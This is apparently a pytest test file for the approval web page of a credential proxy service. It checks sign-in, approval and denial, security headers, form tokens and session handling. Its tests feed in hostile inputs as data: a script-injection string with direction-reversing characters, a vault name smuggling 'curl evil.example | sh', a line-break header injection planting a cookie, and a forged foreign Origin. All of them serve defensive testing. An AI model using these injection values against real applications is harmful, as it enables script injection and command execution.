"""The approval page over HTTP: who may look and decide, what is shown, what a form must have."""

import asyncio
import re
from collections.abc import Iterator
from typing import Any

import pytest

from proxy_core.client import calls
from proxy_core.domain import wire
from proxy_core.services.principal import operator
from proxy_core.worker.browsing import form_token, is_own_form
from tests.worker.browser import Browser, Form, Page
from tests.worker.harness import ThreadedWorker
from tests.worker.test_proposals import BODY, new_agent, new_vault, post

PASSWORD = "a long password 42"
OWNER = "ann@example.com"


@pytest.fixture(scope="module")
def worker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ThreadedWorker]:
    """A worker with an owner and a user without any vault."""
    running = ThreadedWorker(tmp_path_factory.mktemp("approving") / "home").start()
    running.init()
    for name, role in ((OWNER, "owner"), ("bob@example.com", "member")):
        wanted = wire.CreateUser(email=name, password=PASSWORD, role=role)
        in_worker(running, running.running.app.users.admin.create(wanted, operator("me")))
    yield running
    running.stop()


@pytest.fixture(scope="module")
def ann(worker: ThreadedWorker) -> Browser:
    """A browser that the owner is signed in with."""
    browser = Browser(f"http://{worker.api}")
    new_vault(worker, "signing-in")
    page = browser.get(raised(worker, "signing-in"))
    signed_in = browser.submit(page.form("sign-in"), email=OWNER, password=PASSWORD)
    assert OWNER in signed_in.text
    return browser


def in_worker(worker: ThreadedWorker, work: Any) -> Any:
    """Carry out a coroutine in the worker's loop."""
    return asyncio.run_coroutine_threadsafe(work, worker.loop).result(30)


def raised(worker: ThreadedWorker, vault: str, **more: Any) -> str:
    """The path of the page of a new proposal; the vault is made."""
    if vault not in {one.name for one in worker.client().send(calls.vaults()).vaults}:
        new_vault(worker, vault)
    token = new_agent(worker, f"{vault}-{len(more)}-bot", vault)
    made = post(worker, token, {**BODY, **more})
    assert made.status == 201, made.json
    return str(made.json["approval_url"].removeprefix(f"http://{worker.api}"))


def stands(worker: ThreadedWorker, vault: str) -> wire.ReviewedProposal:
    """The vault's first proposal, as operators see it."""
    return worker.client().send(calls.review_proposal(1, vault))


def allow(browser: Browser, page: Page) -> Page:
    """Submit the page's approval, with the value that it asks for."""
    return browser.submit(page.form("allow"), value__STRIPE_KEY="sk_live_1")


def test_from_the_address_to_a_decision(worker: ThreadedWorker) -> None:
    """A stranger looks and signs in; the value given is stored; the page says who and when."""
    browser = Browser(f"http://{worker.api}")
    page = browser.get(raised(worker, "whole"))
    assert (page.status, "Sign in to decide" in page.text) == (200, True)
    for shown in ("api.stripe.com", "charge cards", "Test mode key", "Developers → API keys"):
        assert shown in page.text
    assert [form.action for form in page.forms] == ["/approve/1/sign-in"]
    page = browser.submit(page.forms[0], email=OWNER, password=PASSWORD)
    form = page.form("allow")
    assert (form.kinds["value.STRIPE_KEY"], "value.STRIPE_KEY" in form.required) == (
        "password",
        True,
    )
    done = allow(browser, page)
    assert re.search(rf"Allowed by user {OWNER}, \d{{4}}-\d\d-\d\d \d\d:\d\d UTC\.", done.text)
    assert not [form for form in done.forms if form.action == "/approve/1"]
    assert stands(worker, "whole").status == "applied"
    revealed = worker.ask(
        "GET", "/v1/credentials?vault=whole&reveal=true&key=STRIPE_KEY", tcp=False
    )
    assert revealed.json["credentials"][0]["value"] == "sk_live_1"
    assert "sk_live_1" not in done.html
    out = browser.submit(done.form("sign-out"))
    assert OWNER not in out.text


def test_who_decided_stands_in_the_audit(worker: ThreadedWorker, ann: Browser) -> None:
    """The user who was signed in, where from and at which page; a visitor is nobody."""
    page = ann.get(raised(worker, "audited"))
    allow(ann, page)
    found = worker.client().send(calls.audit(vault="audited", q="proposal.")).entries[0]
    assert (found.actor.kind, found.actor.name) == ("user", OWNER)
    assert (found.source, found.route) == ({"address": "127.0.0.1"}, "POST /approve/{number}")


def test_denying(worker: ThreadedWorker, ann: Browser) -> None:
    """The reason is the agent's to read, and a second decision is told the first one."""
    page = ann.get(raised(worker, "denied"))
    done = ann.submit(page.form("deny"), reason="Not on a Friday.\r\nAsk again.")
    assert f"Denied by user {OWNER}" in done.text
    assert "Not on a Friday. Ask again." in done.text
    found = stands(worker, "denied")
    assert (found.status, found.review_note) == ("rejected", "Not on a Friday.\nAsk again.")
    late = allow(ann, page)
    assert (late.status, "rejected already by user" in late.text) == (409, True)


def test_a_policy_for_browsers(worker: ThreadedWorker) -> None:
    """Nothing is loaded, cached, framed or told to others; the cookie is out of reach."""
    browser = Browser(f"http://{worker.api}")
    page = browser.get(raised(worker, "policy"))
    policy = page.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    for rule in ("form-action 'self'", "frame-ancestors 'none'", "base-uri 'none'"):
        assert rule in policy
    assert page.headers["cache-control"] == "no-store"
    assert page.headers["referrer-policy"] == "no-referrer"
    assert not re.search(r"<script|<img|<link|<iframe|\bstyle=|\bon\w+=|href=|src=", page.html)
    (cookie,) = browser.set_cookies
    for part in ("Path=/approve", "HttpOnly", "SameSite=strict"):
        assert part.lower() in cookie.lower()


def test_a_link_from_another_site(worker: ThreadedWorker) -> None:
    """It is opened once more from here, and no new cookie takes the place of one kept back."""
    browser = Browser(f"http://{worker.api}")
    path = raised(worker, "linked")
    browser.extra = {"Sec-Fetch-Site": "cross-site"}
    page = browser.get(path)
    assert ('http-equiv="refresh" content="0"' in page.html, page.forms) == (True, [])
    assert browser.set_cookies == []
    browser.extra = {"Sec-Fetch-Site": "same-origin"}
    assert "charge cards" in browser.get(path).text


def test_hostile_texts(worker: ThreadedWorker, ann: Browser) -> None:
    """Markup, what reorders or hides, and a line without an end: shown, never obeyed."""
    said = '"><script>alert(1)</script>\u202e\u2066 evil\x1b[31m {{ 7*7 }} ' + "x" * 1500
    credential = {**BODY["credentials"][0], "description": "<b>bold</b>"}  # type: ignore[dict-item]  # a document
    path = raised(worker, "hostile", user_message=said, message="&amp;", credentials=[credential])
    page = ann.get(path)
    assert "<script" not in page.html
    assert "<b>bold" not in page.html
    assert not set(page.html) & set("\u202e\u2066\x1b")
    for shown in ('"><script>alert(1)</script>\\u202e\\u2066 evil\\x1b[31m {{ 7*7 }}', "x" * 1500):
        assert shown in page.text
    assert "&amp;" in page.text
    refused = ann.submit(page.form("allow"), value__STRIPE_KEY="<i>", digest="<script>")
    assert (refused.status, "<script" in refused.html) == (409, False)


def test_high_risk_is_typed(worker: ThreadedWorker, ann: Browser) -> None:
    """Nothing happens until the name stands there letter by letter."""
    new_vault(worker, "risky")
    body = {"vault": "risky", "credentials": {"OLD_KEY": "secret"}}
    worker.ask("POST", "/v1/credentials", body=body, tcp=False)
    auth = {"type": "bearer", "token": "OLD_KEY"}
    services = [{"action": "set", "name": "elsewhere", "host": "new.example.com", "auth": auth}]
    page = ann.get(raised(worker, "risky", services=services, credentials=[]))
    assert "The existing credential OLD_KEY would be sent to new.example.com" in page.text
    form = page.form("allow")
    for typed in ("", "old_key", "OLD_KEY "):
        answer = ann.submit(form, typed__0=typed)
        if typed.strip() == "OLD_KEY":
            assert "Allowed by" in answer.text
        else:
            assert (answer.status, "type OLD_KEY" in answer.text) == (400, True)
            assert stands(worker, "risky").status == "pending"


def test_a_changed_vault_is_shown_again(worker: ThreadedWorker, ann: Browser) -> None:
    """What was decided about another difference is not carried out."""
    page = ann.get(raised(worker, "changing"))
    auth = {"type": "passthrough"}
    services = {"services": [{"name": "stripe", "host": "api.stripe.com", "auth": auth}]}
    worker.ask("POST", "/v1/vaults/changing/services", body=services, tcp=False)
    again = allow(ann, page)
    assert (again.status, "The vault was changed since" in again.text) == (409, True)
    assert "type: passthrough" in again.text
    assert stands(worker, "changing").status == "pending"
    assert again.form("allow").fields["digest"] != page.form("allow").fields["digest"]
    assert "Allowed by" in allow(ann, again).text


def test_a_missing_value(worker: ThreadedWorker, ann: Browser) -> None:
    """A browser that lets an empty one pass is told by the worker."""
    page = ann.get(raised(worker, "missing"))
    answer = ann.submit(page.form("allow"))
    assert (answer.status, "A value is missing for STRIPE_KEY" in answer.text) == (400, True)


def test_a_login_comes_first(worker: ThreadedWorker, ann: Browser) -> None:
    """An OAuth slot that is not connected: how to do it, and no way to allow meanwhile."""
    slot = {
        "key": "STRIPE_KEY",
        "type": "oauth",
        "oauth": {"token_url": "https://connect.stripe.com/oauth/token", "client_id": "c"},
    }
    page = ann.get(raised(worker, "login", credentials=[slot]))
    assert "credential oauth connect STRIPE_KEY --vault login" in page.text
    assert [form.fields.get("action") for form in page.forms if "action" in form.fields] == ["deny"]


def test_wrong_addresses(worker: ThreadedWorker, ann: Browser) -> None:
    """Another's token, none, or another number: one plain sentence, and no form."""
    path = raised(worker, "addressed")
    for wrong in (path.replace("/1?", "/2?"), path[:-1] + "x", "/approve/1", "/approve/1?token="):
        page = ann.get(wrong)
        assert (page.status, page.forms) == (404, [])
        assert "not valid any more" in page.text
        assert page.headers["cache-control"] == "no-store"


def test_without_the_addresss_token(worker: ThreadedWorker) -> None:
    """As a webhook's notice names it: who may see the vault's proposals signs in and decides, and
    to nobody else it says what there is.
    """
    raised(worker, "notified")
    place = "/approve/1?vault=notified"
    browser, strange = Browser(f"http://{worker.api}"), Browser(f"http://{worker.api}")
    page = browser.get(place)
    unknown = strange.get("/approve/9?vault=not-there")
    assert page.text.replace("1", "").replace("notified", "") == unknown.text.replace(
        "9", ""
    ).replace("not-there", "")
    assert "charge cards" not in page.html
    refused = browser.submit(page.form("sign-in"), email=OWNER, password="wrong")
    assert (refused.status, "charge cards" in refused.html) == (401, False)
    page = browser.submit(refused.form("sign-in"), email=OWNER, password=PASSWORD)
    assert (page.address, "charge cards" in page.text) == (place, True)
    assert "Allowed by" in allow(browser, page).text
    page = strange.submit(unknown.form("sign-in"), email="bob@example.com", password=PASSWORD)
    assert (page.status, "may not see the proposals of this vault" in page.text) == (403, True)
    page = strange.get(place)
    assert (page.status, "charge cards" in page.html) == (403, False)
    forged = Form("/approve/1", {**page.form("sign-in").fields, "action": "deny"})
    assert strange.submit(forged).status == 404
    assert browser.get("/approve/9?vault=notified").status == 404


def test_no_link_puts_words_into_the_page(worker: ThreadedWorker) -> None:
    """What can be no vault's name is not shown: it would stand in a command to be copied."""
    browser = Browser(f"http://{worker.api}")
    page = browser.get("/approve/1?vault=work%20%26%26%20curl%20evil.example%20%7C%20sh")
    assert (page.status, page.forms) == (404, [])
    assert "evil.example" not in page.html


def test_who_may_not_decide(worker: ThreadedWorker) -> None:
    """A user without a role in the vault sees no form, and cannot send one either."""
    browser = Browser(f"http://{worker.api}")
    page = browser.get(raised(worker, "others"))
    page = browser.submit(page.form("sign-in"), email="bob@example.com", password=PASSWORD)
    assert "bob@example.com may look at this, but not decide it" in page.text
    made_up = Form(
        "/approve/1",
        {**page.form("sign-out").fields, "action": "deny", "reason": "mine"},
    )
    assert browser.submit(made_up).status == 403
    assert stands(worker, "others").status == "pending"


def test_no_address_of_a_form_gets_into_a_header(worker: ThreadedWorker) -> None:
    """Line ends and other parameters in it stay what they are: a wrong token."""
    browser = Browser(f"http://{worker.api}")
    form = browser.get(raised(worker, "headers")).form("sign-in")
    made_up = Form("/approve/1/sign-out", {"form": form.fields["form"]})
    out = browser.submit(made_up, token="x\r\nSet-Cookie: planted=1&number=2")
    assert (out.status, "This address is not valid any more" in out.text) == (404, True)
    assert "planted" not in browser.cookies


def test_a_form_is_its_browsers_own(worker: ThreadedWorker, ann: Browser) -> None:
    """Without the cookie's own token, with another's, or with another's cookie: nothing happens."""
    path = raised(worker, "forged")
    page, stranger = ann.get(path), Browser(f"http://{worker.api}")
    foreign = stranger.get(path).forms[0].fields["form"]
    for token in ("", "0" * 64, foreign):
        answer = ann.submit(page.form("deny"), form=token)
        assert (answer.status, "Nothing was done" in answer.text) == (403, True)
    assert stranger.submit(page.form("deny")).status == 403
    assert stands(worker, "forged").status == "pending"
    evil = Browser(f"http://{worker.api}")
    evil.extra = {"Origin": "https://evil.example.com"}
    assert evil.submit(page.form("deny")).status == 403


def test_wrong_passwords(worker: ThreadedWorker) -> None:
    """The same sentence for a wrong name and a wrong password; the cookie changes with success."""
    browser = Browser(f"http://{worker.api}")
    page = browser.get(raised(worker, "passwords"))
    before = dict(browser.cookies)
    for email, password in ((OWNER, "wrong"), ("nobody@example.com", PASSWORD)):
        answer = browser.submit(page.forms[0], email=email, password=password)
        assert (answer.status, "The name or the password is wrong." in answer.text) == (401, True)
        assert PASSWORD not in answer.html
    signed_in = browser.submit(answer.forms[0], email=OWNER, password=PASSWORD)
    assert OWNER in signed_in.text
    assert browser.cookies != before


def test_the_cookie_opens_no_api(worker: ThreadedWorker, ann: Browser) -> None:
    """It is for the pages: neither as a cookie nor as a bearer is it anybody at the API."""
    (name, value), *_ = ann.cookies.items()
    for headers in ({"Cookie": f"{name}={value}"}, {"Authorization": f"Bearer {value}"}):
        for path in ("/v1/credentials", "/v1/admin/proposals", "/v1/auth/me"):
            assert worker.ask("GET", path, headers=headers).status == 401
    form = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": f"{name}={value}"}
    answer = worker.ask("POST", "/v1/admin/proposals/1/reject", body=b"a=b", headers=form)
    assert answer.status == 400


def test_an_ended_session_is_signed_out(worker: ThreadedWorker) -> None:
    """Revoked elsewhere, it is over here at the next request."""
    browser = Browser(f"http://{worker.api}")
    page = browser.get(raised(worker, "ended"))
    page = browser.submit(page.form("sign-in"), email=OWNER, password=PASSWORD)
    users = worker.running.app.users
    newest = users.sessions.list(operator("me")).sessions[0]
    in_worker(worker, users.sessions.revoke(newest.id, operator("me")))
    answer = browser.submit(page.form("deny"))
    assert (answer.status, "Sign in to decide" in answer.text) == (403, True)


@pytest.mark.parametrize("body", [b"a=1&a=2", b"\xff=1", b"a", b"&".join([b"a=1"] * 100)])
def test_forms_that_cannot_be_read(worker: ThreadedWorker, body: bytes) -> None:
    """A page that says so."""
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    answer = worker.ask("POST", "/approve/1", body=body, headers=headers)
    assert (answer.status, b"could not be read" in answer.body) == (400, True)
    assert answer.headers["content-type"].startswith("text/html")


def test_no_form_without_a_cookie() -> None:
    """The token of no cookie is known to everybody."""
    assert is_own_form("one", form_token("one"))
    assert not is_own_form("", form_token(""))
